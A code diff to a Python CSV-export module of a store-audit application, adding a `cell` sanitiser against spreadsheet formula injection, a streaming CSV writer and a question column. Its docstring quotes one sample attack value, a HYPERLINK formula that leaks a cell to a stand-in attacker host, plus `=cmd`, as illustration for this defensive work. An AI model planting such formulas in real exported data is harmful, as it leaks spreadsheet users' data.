@@ -1,18 +1,30 @@
-"""Rows for spreadsheets and integrations: audits with scores, and every answer, of a period.
+"""Rows for spreadsheets and integrations: audits with scores, and every answer, of a period,
+and the one writer of every CSV download (`csv_lines`).
 
 Rows are streamed from the database in chunks (`yield_per`), so a year of a large
 region never sits in memory at once. Dates are ISO 8601 in UTC.
+
+Every cell goes through `cell`: text a spreadsheet would read as a formula (starting with
+`=`, `+`, `-`, `@`, a tab or a carriage return: a shopper's comment
+`=HYPERLINK("http://evil.example/?leak="&B2,"open")`, a store named `=cmd`) gets a leading
+single quote, OWASP's rule for CSV injection, so it shows as the text it is; numbers stay
+numbers (a change of -3.5 is not text); true and false are written `yes` and `no`.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+import csv
+import io
+from collections.abc import Iterable, Iterator
+from decimal import Decimal
 from typing import Any
 
 import sqlalchemy as sa
 
+from audit.domain.checklist import Checklist
 from audit.domain.periods import Period
 from audit.errors import NotFound
+from audit.services import checklists
 from audit.services.access import Viewer
 from audit.storage import models
 from audit.storage.db import Database
@@ -22,9 +34,39 @@ AUDIT_HEADER = [
     "submitted_at", "score", "earned", "possible", "critical_failed", "excluded", "excluded_reason",
 ]  # fmt: skip
 ANSWER_HEADER = [
-    "audit_id", "store", "finished_at", "checklist_version", "section", "item", "value", "na", "earned",
-    "possible", "failed", "comment",
+    "audit_id", "store", "finished_at", "checklist_version", "section", "item", "question", "value", "na",
+    "earned", "possible", "failed", "comment",
 ]  # fmt: skip
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(value: Any) -> Any:
+    """One CSV cell: empty for None, yes/no for booleans, numbers as they are, and text that a
+    spreadsheet would take for a formula behind a single quote."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "yes" if value else "no"
+    if isinstance(value, int | float | Decimal):
+        return value
+    text = value.isoformat() if hasattr(value, "isoformat") else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def csv_lines(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
+    """A whole CSV file: the BOM (so spreadsheets read accents right), one header row, then the
+    rows, every cell through `cell`, handed out 500 rows at a time."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    buffer.write("\ufeff")
+    writer.writerow([cell(v) for v in header])
+    for n, row in enumerate(rows, start=1):
+        writer.writerow([cell(v) for v in row])
+        if n % 500 == 0:
+            yield buffer.getvalue()
+            buffer.seek(0)
+            buffer.truncate()
+    yield buffer.getvalue()
 
 
 def _region_id(db: Database, viewer: Viewer, code: str) -> int:
@@ -33,10 +75,6 @@ def _region_id(db: Database, viewer: Viewer, code: str) -> int:
     if region_id is None or not viewer.sees_region(region_id):
         raise NotFound(f"no region {code!r}")
     return region_id
-
-
-def _iso(value: Any) -> Any:
-    return value.isoformat() if hasattr(value, "isoformat") else value
 
 
 def _stream(db: Database, query: sa.Select, region_id: int, period: Period) -> Iterator[list[Any]]:
@@ -48,7 +86,7 @@ def _stream(db: Database, query: sa.Select, region_id: int, period: Period) -> I
     ).execution_options(yield_per=2000)
     with db.session() as session:
         for row in session.execute(query):
-            yield [_iso(v) for v in row]
+            yield list(row)
 
 
 def audit_rows(db: Database, viewer: Viewer, region: str, period: Period) -> Iterator[list[Any]]:
@@ -100,4 +138,12 @@ def answer_rows(db: Database, viewer: Viewer, region: str, period: Period) -> It
         .join(models.Store, models.Store.id == models.Audit.store_id)
         .order_by(models.Audit.finished_at, models.Answer.audit_id, models.Answer.item_key)
     )
-    yield from _stream(db, query, region_id, period)
+    specs: dict[str, Checklist | None] = {}
+    for row in _stream(db, query, region_id, period):
+        version_id = row[3]
+        if version_id not in specs:
+            specs[version_id] = checklists.version(db, version_id)
+        spec = specs[version_id]
+        item = spec.item(row[5]) if spec is not None else None
+        row.insert(6, item.question if item is not None else "")  # the question's words, beside its key
+        yield row
